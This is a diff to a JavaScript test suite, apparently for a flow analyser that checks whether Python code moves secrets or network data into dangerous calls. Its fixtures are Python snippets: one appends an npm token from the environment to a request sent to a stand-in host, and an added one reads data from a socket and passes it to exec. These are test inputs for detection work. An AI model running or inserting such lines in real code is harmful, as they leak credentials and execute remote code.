@@ -69,3 +69,9 @@ test('any function of any module is what a reply names', async () => {
 test('the name of a key is one however it is put together', async () => {
   expect(await flows(`import os, urllib.request\nurllib.request.urlopen("https://h.example.invalid/" + os.environ.get("npm_token".upper()))\n`, ['key', 'network'])).toContain('import');
 });
+
+test('a class that looks for names in itself, where it has none, does not lose what its objects hold', async () => {
+  const leaf = 'class Leaf:\n    def __init__(self, host):\n        self.sock = self.open_socket(host)\n    def open_socket(self, host):\n        return socket.create_connection((host, 80))\n    def __getattr__(self, name):\n        return getattr(self, name.lower())\n    def receive(self):\n        return self.sock.recv(80)\n';
+  const text = `import socket\n${leaf}leaf = Leaf("leaf.example.invalid")\nfor name in ("RECEIVE", "LOGOUT"):\n    getattr(leaf, name)()\nexec(leaf.receive())\n`;
+  expect(await flows(text, ['network', 'exec'])).toEqual(['import']);
+});
